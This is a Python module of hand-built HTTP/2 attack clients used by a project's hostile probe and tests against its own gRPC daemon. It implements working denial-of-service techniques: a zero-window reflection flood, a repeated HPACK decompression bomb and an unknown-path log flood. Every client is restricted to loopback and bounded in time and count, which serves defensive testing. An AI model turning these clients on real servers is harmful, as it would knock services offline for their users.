"""HTTP/2 attack clients of issue 35, as an attacker would run them, for
Scripts/hostile_probe.py (`make bench-hostile`) and a quick correctness test
(test_abuse_h2.py): the zero-window reflection flood, the repeated HPACK bomb and the
unknown-path log flood. Each attack is an object: `start()` opens its connections (and,
for the floods, its sending threads) and returns once the attack is under way, `stop()`
ends it and closes every connection, and `counts` / `sent` say what it did. Every loop is
bounded in time and in count, and every connection goes to the daemon on loopback from
source addresses of the attack's own (127.0.0.N: Linux routes all of 127/8 on lo), as
in abuse.py.

Frames are built by hand with h2wire.py (the HPACK bomb's representations and a zero
window are what a client library would never send); what the daemon sends back is
scanned frame by frame without decoding, except the bomb's answers, decoded to tell a
431 from anything else. `sent` counts HTTP/2 bytes, before TLS."""

import select
import socket
import ssl
import struct
import threading
import time
from collections import Counter

import hpack

import h2wire
from h2wire import (
    DATA, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, MAX_CONCURRENT_STREAMS, PREFACE,
    RST_STREAM, SETTINGS, ACK, Connection, error_name, grpc_message, grpc_request_headers,
)

REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
# The symbol whose file (with its import, the first time on a stream) the reflection
# flood asks for: its request is 31 bytes as a gRPC message, as in the review.
REFLECTION_SYMBOL = "anonauth.v1.AdminService"
UNKNOWN_PATH = "/anonauth.v1.NoSuchService/Nothing"

# Bounds whatever the caller asks: no attack here runs longer or sends more than this.
MAX_SECONDS = 120
MAX_CONNECTIONS = 256
MAX_BLOCKS = 1_000_000
MAX_CALLS = 5_000_000


def _loopback(address):
    """Only loopback targets: these clients are for the daemon the probe started."""
    assert address.startswith("127."), f"refusing to attack {address}: loopback only"
    return address


def reflection_request(symbol=REFLECTION_SYMBOL):
    """A `ServerReflectionRequest` with `file_containing_symbol` (field 4) set."""
    raw = symbol.encode()
    assert len(raw) < 128
    return b"\x22" + bytes([len(raw)]) + raw


def bomb_block():
    """A 16 KB header block (one HEADERS frame of 16,384 bytes) that puts a 4,000-byte
    field into the HPACK dynamic table and refers to it about 12,300 times: it decodes to
    about 49 MB. Each block stands alone (a fresh encoder's request fields, then the
    field, then references to index 62, the field just added), so sending it stream after
    stream keeps both HPACK tables in step for as long as the server decodes it."""
    block = h2wire.encode(grpc_request_headers()) + h2wire.hpack_literal_indexed(b"x-bomb", b"a" * 4000)
    return block + h2wire.hpack_indexed(62) * (16384 - 9 - len(block))


def bomb_references(block=None):
    """How many times `bomb_block()` refers to its 4,000-byte field."""
    block = block or bomb_block()
    return len(block) - block.index(b"a" * 4000) - 4000


class FrameScan:
    """The server's frames from a byte stream, without HPACK: (kind, flags, stream,
    payload) for each whole frame fed so far. The payload is kept only for the frames
    that need it (`keep`); the others carry their length instead."""

    def __init__(self, keep=(SETTINGS, RST_STREAM, GOAWAY)):
        self.buf = bytearray()
        self.keep = frozenset(keep)

    def feed(self, chunk):
        self.buf += chunk
        buf, pos, end, out = self.buf, 0, len(self.buf), []
        while end - pos >= 9:
            length = buf[pos] << 16 | buf[pos + 1] << 8 | buf[pos + 2]
            if end - pos < 9 + length:
                break
            kind, flags = buf[pos + 3], buf[pos + 4]
            stream = int.from_bytes(buf[pos + 5:pos + 9], "big") & 0x7FFFFFFF
            payload = bytes(buf[pos + 9:pos + 9 + length]) if kind in self.keep else length
            out.append((kind, flags, stream, payload))
            pos += 9 + length
        del buf[:pos]
        return out


def _settings_pairs(payload):
    return {k: v for k, v in (struct.unpack(">HI", payload[i:i + 6]) for i in range(0, len(payload) - 5, 6))}


def _code(payload, offset=0):
    return error_name(struct.unpack(">I", payload[offset:offset + 4])[0]) if len(payload) >= offset + 4 else "?"


class Attack:
    """What every attack shares: the daemon, its tally and the bytes sent."""

    name = "attack"

    def __init__(self, daemon, seconds):
        self.daemon = daemon
        _loopback(daemon.rpc[0])
        self.seconds = min(seconds, MAX_SECONDS)
        self.lock = threading.Lock()
        self.counts = Counter()
        self.sent = 0
        self.stop_event = threading.Event()
        self.threads = []
        self.deadline = None

    def count(self, what, n=1):
        with self.lock:
            self.counts[what] += n

    def send(self, sock, raw):
        sock.sendall(raw)
        with self.lock:
            self.sent += len(raw)

    def connect(self, source, timeout=10):
        """A TLS connection with ALPN h2 from `source`, no preface sent yet; None (counted)
        if the daemon refused or closed it."""
        try:
            return Connection(self.daemon, source=_loopback(source), preface=False, timeout=timeout)
        except (OSError, ssl.SSLError, AssertionError) as e:
            self.count("connection refused or failed: " + type(e).__name__)
            return None

    def done(self):
        return self.stop_event.is_set() or time.monotonic() >= self.deadline

    def stop(self):
        self.stop_event.set()
        for t in self.threads:
            t.join(timeout=30)

    def snapshot(self):
        with self.lock:
            return Counter(self.counts), self.sent


class ZeroWindowReflection(Attack):
    """`connections` connections (from `sources` in turn), each with
    SETTINGS_INITIAL_WINDOW_SIZE 0 and `streams` reflection streams carrying `messages`
    `file_containing_symbol` requests each: no key is needed, every answer (about 12 KB
    for the first of each stream) waits for a window that never opens. The streams are
    held open (no END_STREAM) until `stop()`; meanwhile a thread reads and drops what the
    server sends (its HEADERS, and any RST_STREAM or GOAWAY, counted) so no TCP back
    pressure stands in for HTTP/2 flow control."""

    name = "zero-window reflection"

    def __init__(self, daemon, connections=1, streams=120, messages=8, sources=("127.0.0.31",), seconds=60,
                 symbol=REFLECTION_SYMBOL):
        super().__init__(daemon, seconds)
        self.connections = min(connections, MAX_CONNECTIONS)
        self.streams, self.messages, self.sources, self.symbol = min(streams, 1000), min(messages, 1000), sources, symbol
        self.held = []  # [connection, scanner]

    def blob(self):
        """One connection's bytes: preface, SETTINGS with a zero window, the streams."""
        encoder = hpack.Encoder()
        fields = grpc_request_headers(REFLECTION)
        body = grpc_message(reflection_request(self.symbol)) * self.messages
        out = [PREFACE, h2wire.settings([(INITIAL_WINDOW_SIZE, 0)])]
        for i in range(self.streams):
            out.append(h2wire.headers(2 * i + 1, encoder.encode(fields)) + h2wire.data(2 * i + 1, body))
        return b"".join(out)

    def start(self):
        self.deadline = time.monotonic() + self.seconds
        for i in range(self.connections):
            if self.done():
                break
            conn = self.connect(self.sources[i % len(self.sources)])
            if conn is None:
                continue
            try:
                conn.sock.settimeout(3)
                self.send(conn.sock, self.blob())
            except (socket.timeout, TimeoutError):
                # The daemon stopped reading this connection: an attacker keeps it anyway.
                self.count("sends stalled (the daemon stopped reading)")
            except (OSError, ssl.SSLError):
                self.count("connection closed while sending")
                conn.close()
                continue
            self.count("connections")
            self.count("streams", self.streams)
            self.held.append([conn, FrameScan()])
        holder = threading.Thread(target=self._hold, daemon=True)
        holder.start()
        self.threads.append(holder)
        return self

    def _hold(self):
        """Reads what the server sends on every held connection until `stop()` or the
        deadline: acknowledges its SETTINGS (so the zero window is in force on both
        sides), drops the rest, counts resets, GOAWAYs and closes."""
        while not self.done():
            live = [h for h in self.held if not h[0].closed]
            if not live:
                self.stop_event.wait(0.2)
                continue
            try:
                readable, _, _ = select.select([h[0].sock for h in live], [], [], 0.2)
            except (OSError, ValueError):
                readable = []
            for conn, scan in live:
                if conn.sock not in readable:
                    continue
                self._read(conn, scan)
        for conn, _ in self.held:
            conn.close()

    def _read(self, conn, scan):
        try:
            conn.sock.setblocking(False)
            chunk = conn.sock.recv(65536)
        except (ssl.SSLWantReadError, BlockingIOError):
            return
        except (OSError, ssl.SSLError):
            chunk = b""
        if not chunk:
            conn.closed = True
            self.count("connections closed by the daemon")
            return
        self.count("bytes received", len(chunk))
        for kind, flags, stream, payload in scan.feed(chunk):
            if kind == SETTINGS and not flags & ACK:
                try:
                    conn.sock.setblocking(True)
                    conn.sock.settimeout(5)
                    self.send(conn.sock, h2wire.settings(ack=True))
                except (OSError, ssl.SSLError):
                    pass
            elif kind == RST_STREAM:
                self.count("RST_STREAM " + _code(payload))
            elif kind == GOAWAY:
                self.count("GOAWAY " + _code(payload, 4))
            elif kind == DATA and payload:
                self.count("DATA frames with bytes")  # into a zero window: never


class _Flood(Attack):
    """A flood run by one thread per connection, each reconnecting (counted) when the
    daemon closes its connection, as an attacker would, until `stop()`, the deadline or
    its bound of requests."""

    def __init__(self, daemon, connections, sources, seconds):
        super().__init__(daemon, seconds)
        self.connections = min(connections, MAX_CONNECTIONS)
        self.sources = sources
        self.started = threading.Event()

    def start(self):
        self.deadline = time.monotonic() + self.seconds
        for i in range(self.connections):
            t = threading.Thread(target=self._worker, args=(self.sources[i % len(self.sources)],), daemon=True)
            t.start()
            self.threads.append(t)
        # Under way once one answer came back (bounded: a daemon that answers nothing
        # is a figure too).
        self.started.wait(min(15, self.seconds))
        return self

    def _worker(self, source):
        first = True
        while not self.done():
            conn = self.connect(source, timeout=5)
            if conn is None:
                self.stop_event.wait(0.05)
                continue
            self.count("connections" if first else "reconnections")
            first = False
            try:
                self._run(conn)
            except (socket.timeout, TimeoutError):
                self.count("sends stalled (the daemon stopped reading)")
            except (OSError, ssl.SSLError):
                self.count("connections closed by the daemon")
            finally:
                conn.close()

    def _read(self, conn, scan, seconds):
        """Frames that came within `seconds`; [] and conn.closed at EOF."""
        try:
            readable, _, _ = select.select([conn.sock], [], [], seconds) if not conn.sock.pending() else ([1], 0, 0)
        except (OSError, ValueError):
            conn.closed = True
            return []
        if not readable:
            return []
        try:
            chunk = conn.sock.recv(65536)
        except (ssl.SSLWantReadError, BlockingIOError, socket.timeout, TimeoutError):
            return []
        except (OSError, ssl.SSLError):
            chunk = b""
        if not chunk:
            conn.closed = True
            self.count("connections closed by the daemon")
            return []
        return scan.feed(chunk)


class HpackBomb(_Flood):
    """Stream after stream, one `bomb_block()` each (END_STREAM, no body), up to `window`
    streams unanswered at a time, on `connections` connections from `sources`. The
    answers are decoded: a 431 is what the daemon answers a header list over its limit."""

    name = "repeated HPACK bomb"

    def __init__(self, daemon, connections=1, sources=("127.0.0.41",), seconds=10, window=4, max_blocks=MAX_BLOCKS):
        super().__init__(daemon, connections, sources, seconds)
        self.window, self.max_blocks = max(1, min(window, 64)), min(max_blocks, MAX_BLOCKS)
        self.block = bomb_block()

    def _run(self, conn):
        conn.sock.settimeout(5)
        self.send(conn.sock, PREFACE + h2wire.settings())
        scan, decoder = FrameScan(keep=(SETTINGS, RST_STREAM, GOAWAY, HEADERS)), hpack.Decoder()
        stream, waiting = 1, set()
        while not self.done() and not conn.closed:
            batch = b""
            while len(waiting) < self.window and stream < 1 << 31:
                with self.lock:
                    if self.counts["blocks sent"] >= self.max_blocks:
                        break
                    self.counts["blocks sent"] += 1
                batch += h2wire.headers(stream, self.block, end_stream=True)
                waiting.add(stream)
                stream += 2
            if batch:
                self.send(conn.sock, batch)
            elif not waiting:
                self.stop_event.set()  # the bound of blocks is reached: the attack is over
                return
            for kind, flags, sid, payload in self._read(conn, scan, 1.0):
                if kind == SETTINGS and not flags & ACK:
                    self.send(conn.sock, h2wire.settings(ack=True))
                elif kind == HEADERS:
                    status = self._status(decoder, flags, payload)
                    if flags & END_STREAM and sid in waiting:
                        waiting.discard(sid)
                        self.count(f"answered {status}")
                        self.started.set()
                elif kind == RST_STREAM:
                    if sid in waiting:
                        waiting.discard(sid)
                    self.count("RST_STREAM " + _code(payload))
                    self.started.set()
                elif kind == GOAWAY:
                    self.count("GOAWAY " + _code(payload, 4))
                    self.started.set()
                    return

    @staticmethod
    def _status(decoder, flags, payload):
        """The answer's :status, decoding in order so the HPACK state stays in step."""
        if flags & 0x8:
            payload = payload[1:len(payload) - payload[0]]
        if flags & 0x20:
            payload = payload[5:]
        try:
            fields = {(k.decode() if isinstance(k, bytes) else k): v for k, v in decoder.decode(payload)}
        except Exception:  # hpack's errors: an answer this client cannot read is still an answer
            return "undecodable"
        status = fields.get(":status", "")
        return status.decode() if isinstance(status, bytes) else status or "without :status"


class UnknownPathFlood(_Flood):
    """gRPC calls (HEADERS, then an empty message with END_STREAM) to a path no service
    has, as fast as the answers come: up to `window` (at most the server's
    MAX_CONCURRENT_STREAMS) unanswered on each of `connections` connections from one
    address. The daemon answers each at once (UNIMPLEMENTED) and writes a log line."""

    name = "unknown-path log flood"

    def __init__(self, daemon, connections=8, sources=("127.0.0.51",), seconds=10, window=100, max_calls=MAX_CALLS):
        super().__init__(daemon, connections, sources, seconds)
        self.window, self.max_calls = max(1, window), min(max_calls, MAX_CALLS)

    def _run(self, conn):
        conn.sock.settimeout(5)
        self.send(conn.sock, PREFACE + h2wire.settings())
        scan = FrameScan()
        window = None
        deadline = time.monotonic() + 10
        while window is None and not conn.closed and time.monotonic() < deadline:
            for kind, flags, _, payload in self._read(conn, scan, 1.0):
                if kind == SETTINGS and not flags & ACK:
                    self.send(conn.sock, h2wire.settings(ack=True))
                    window = min(self.window, _settings_pairs(payload).get(MAX_CONCURRENT_STREAMS, 100))
        if window is None:
            return
        encoder = hpack.Encoder()
        fields = grpc_request_headers(UNKNOWN_PATH)
        first = encoder.encode(fields)
        again = encoder.encode(fields)  # the same fields: references to the dynamic table
        body = grpc_message()
        stream, waiting, data_bytes = 1, set(), 0
        while not self.done() and not conn.closed:
            if len(waiting) <= window // 2:
                parts = []
                while len(waiting) < window and stream < 1 << 31:
                    with self.lock:
                        if self.counts["calls sent"] >= self.max_calls:
                            break
                        self.counts["calls sent"] += 1
                    parts.append(h2wire.headers(stream, first if stream == 1 else again)
                                 + h2wire.data(stream, body, end_stream=True))
                    waiting.add(stream)
                    stream += 2
                if parts:
                    self.send(conn.sock, b"".join(parts))
                elif not waiting:
                    self.stop_event.set()  # the bound of calls is reached: the attack is over
                    return
            ended = 0
            for kind, flags, sid, payload in self._read(conn, scan, 1.0):
                if kind == DATA:
                    data_bytes += payload
                if kind in (HEADERS, DATA) and flags & END_STREAM or kind == RST_STREAM:
                    if sid in waiting:
                        waiting.discard(sid)
                        ended += 1
                    if kind == RST_STREAM:
                        self.count("RST_STREAM " + _code(payload))
                elif kind == SETTINGS and not flags & ACK:
                    self.send(conn.sock, h2wire.settings(ack=True))
                elif kind == GOAWAY:
                    self.count("GOAWAY " + _code(payload, 4))
                    return
            if ended:
                self.count("calls answered", ended)
                self.started.set()
            if data_bytes > 1 << 15:  # answers with bodies: give the window back
                self.send(conn.sock, h2wire.window_update(0, data_bytes))
                data_bytes = 0
